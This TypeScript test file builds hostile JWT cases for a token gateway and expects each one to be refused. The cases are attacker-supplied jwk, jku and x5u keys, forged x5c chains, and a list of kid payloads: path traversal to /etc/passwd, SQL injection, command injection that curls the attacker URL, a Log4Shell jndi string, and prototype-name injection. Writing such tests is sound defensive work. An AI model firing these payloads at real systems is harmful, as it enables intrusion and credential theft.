/**
 * Keys named by the token (RFC 8725 §3.10, RFC 7515 §4.1.2–4.1.6, CVE-2018-0114, jwt_tool's `-X i` and
 * `-X s`, PortSwigger's jku/kid labs): an embedded `jwk`, `jku` and `x5u` pointing at the attacker's server
 * or at a file, `x5c` chains the attacker made, `kid` values that are paths, SQL, shell or prototype names,
 * and floods of random `kid`s. Keys come from configuration only: none of these may cause a request, a file
 * read or a delay, and the flood may cost at most one JWKS fetch per cooldown.
 */
import { createHash, randomBytes } from 'node:crypto'
import { MAX_KID_LENGTH } from '../../../lib/auth/jwk.js'
import { certificate } from '../../helpers/x509.js'
import { type CorpusContext, type HostileCase, invalidToken, signJws } from './context.js'

/** How many random `kid`s the flood sends, per entry point. */
export const KID_FLOOD = { fast: 100, full: 2000 } as const

export function keyCases(ctx: CorpusContext): HostileCase[] {
  const cases: HostileCase[] = []
  const attacker = ctx.attacker
  const byAttacker = (
    header: Record<string, unknown>,
    claims = ctx.claims({ sub: 'admin', roles: ['admin'] }),
  ) => signJws(ctx.header(header), claims, 'RS256', attacker.privateKey)
  const add = (name: string, token: string, expect = invalidToken('KG_TOKEN_MALFORMED')) =>
    cases.push({ family: 'keys', name, token, expect })

  // An embedded key, and the token signed by its private half.
  const jwk = attacker.publicJwk
  add('embedded jwk (attacker key, attacker kid)', byAttacker({ kid: 'attacker', jwk }))
  add("embedded jwk under the issuer's kid", byAttacker({ jwk: { ...jwk, kid: ctx.issuer.kid } }))
  add('embedded jwk, no kid', byAttacker({ kid: undefined, jwk }))
  add("embedded jwk copying the issuer's public key", byAttacker({ jwk: ctx.issuer.publicJwk }))
  add(
    'embedded symmetric jwk with HS256',
    signJws(
      ctx.header({ alg: 'HS256', jwk: { kty: 'oct', k: 'c2VjcmV0' } }),
      ctx.claims(),
      'HS256',
      'secret',
    ),
    invalidToken('KG_TOKEN_ALG_NOT_ALLOWED', 'KG_TOKEN_MALFORMED'),
  )
  add('embedded jwk: null', byAttacker({ jwk: null }))

  // URLs of keys: the attacker's server, tricks that dress it as the issuer, and a file.
  const issuerHost = new URL(ctx.issuer.url).host
  const attackerHost = new URL(attacker.url).host
  const urls: Array<[string, string]> = [
    ["the attacker's JWKS", `${attacker.url}/jwks.json`],
    ["the issuer's host as userinfo before the attacker's", `http://${issuerHost}@${attackerHost}/jwks.json`],
    [
      "the issuer's JWKS path then a redirect parameter",
      `${ctx.issuer.url}/.well-known/jwks.json?redirect=${attacker.url}`,
    ],
    ["the attacker's host by name", `http://localhost:${new URL(attacker.url).port}/jwks.json`],
    ['a file URL (a FIFO)', `file://${attacker.fifo}`],
  ]
  for (const [what, url] of urls) {
    add(`jku: ${what}`, byAttacker({ kid: 'attacker', jku: url }))
    add(`x5u: ${what}`, byAttacker({ kid: 'attacker', x5u: url }))
  }
  add("jku with the issuer's kid", byAttacker({ jku: `${attacker.url}/jwks.json` }))
  add(
    "jku naming the issuer's own JWKS, attacker kid",
    byAttacker({ kid: 'attacker', jku: `${ctx.issuer.url}/.well-known/jwks.json` }),
  )

  // x5c: certificate chains the attacker made, over its own key or pretending to certify the issuer's.
  const caDer = certificate({
    subject: 'keygate issuer',
    issuer: 'keygate issuer',
    publicKey: attacker.publicKey,
    signingKey: attacker.privateKey,
  })
  const forIssuerKey = certificate({
    subject: 'keygate',
    issuer: 'keygate issuer',
    publicKey: ctx.issuer.publicKey,
    signingKey: attacker.privateKey,
    serial: 2,
  })
  const x5t = (der: Buffer) => createHash('sha256').update(der).digest('base64url')
  add(
    'x5c: self-signed attacker certificate',
    byAttacker({ kid: 'attacker', x5c: [caDer.toString('base64')] }),
  )
  add(
    'x5c: self-signed certificate with x5t#S256',
    byAttacker({ kid: 'attacker', x5c: [caDer.toString('base64')], 'x5t#S256': x5t(caDer) }),
  )
  add(
    "x5c: certificate for the issuer's key from the attacker's CA",
    byAttacker({ x5c: [forIssuerKey.toString('base64'), caDer.toString('base64')] }),
  )
  add("x5c under the issuer's kid", byAttacker({ x5c: [caDer.toString('base64')] }))
  add('x5c: not base64', byAttacker({ kid: 'attacker', x5c: ['!!not a certificate!!'] }))
  add('x5c: a string instead of an array', byAttacker({ kid: 'attacker', x5c: caDer.toString('base64') }))
  add(
    'x5t#S256 alone, pointing at the attacker certificate',
    byAttacker({ kid: 'attacker', 'x5t#S256': x5t(caDer) }),
    invalidToken('KG_TOKEN_KEY_UNKNOWN', 'KG_TOKEN_MALFORMED'),
  )

  // kid injection, signed with the issuer's key (so only the kid is wrong) and, for the /dev/null classic,
  // HMAC with an empty secret.
  const curl = `curl -s ${attacker.url}/kid`
  const hostileKids: unknown[] = [
    '../../../../../../../../dev/null',
    '/dev/null',
    '../../../../../../etc/passwd',
    '/etc/passwd',
    '/proc/self/environ',
    attacker.fifo,
    `file://${attacker.fifo}`,
    '..\\..\\..\\windows\\win.ini',
    'keys/keyset.json',
    '../keys/gateway-assertion-key.json',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '....//....//etc/passwd',
    "' OR '1'='1",
    "' OR 1=1 --",
    "x' UNION SELECT 'AAAA' --",
    '1; DROP TABLE signing_keys; --',
    '" OR ""="',
    "kid' AND SLEEP(30) --",
    `$(${curl})`,
    `\`${curl}\``,
    `| ${curl}`,
    `; ${curl} #`,
    `&& ${curl}`,
    '$(sleep 30)',
    '; sleep 30',
    '${jndi:ldap://' + attackerHost + '/a}',
    '%s%s%s%s%n',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '*',
    'x\n{"level":60,"msg":"forged log line"}',
    'x\u0000y',
    `${ctx.issuer.kid} `,
    ctx.issuer.kid.toUpperCase(),
    `${ctx.issuer.kid}=`,
    `${attacker.url}/jwks.json`,
    `${ctx.issuer.url}/.well-known/jwks.json`,
    '{"kty":"oct","k":""}',
    'k'.repeat(MAX_KID_LENGTH + 1),
    '',
    null,
    0,
    true,
    [ctx.issuer.kid],
    { kid: ctx.issuer.kid },
  ]
  const kidRefused = invalidToken('KG_TOKEN_MALFORMED', 'KG_TOKEN_KEY_UNKNOWN')
  for (const kid of hostileKids) {
    const label = JSON.stringify(kid).slice(0, 60)
    add(`kid ${label}`, ctx.signed(ctx.header({ kid }), ctx.claims()), kidRefused)
  }
  add('kid missing', ctx.signed(ctx.header({ kid: undefined }), ctx.claims()), kidRefused)
  for (const kid of ['../../../../../../../../dev/null', '/dev/null', attacker.fifo]) {
    add(
      `kid ${JSON.stringify(kid)} with HS256 and an empty secret`,
      signJws(ctx.header({ alg: 'HS256', kid }), ctx.claims(), 'HS256', ''),
      invalidToken('KG_TOKEN_ALG_NOT_ALLOWED'),
    )
  }

  // A flood of random kids: each is an unknown key, and may trigger at most one refetch per cooldown.
  for (let i = 0; i < KID_FLOOD[ctx.depth]; i++) {
    add(
      `random kid #${i + 1}`,
      ctx.signed(ctx.header({ kid: randomBytes(16).toString('base64url') }), ctx.claims()),
      invalidToken('KG_TOKEN_KEY_UNKNOWN'),
    )
  }
  return cases
}
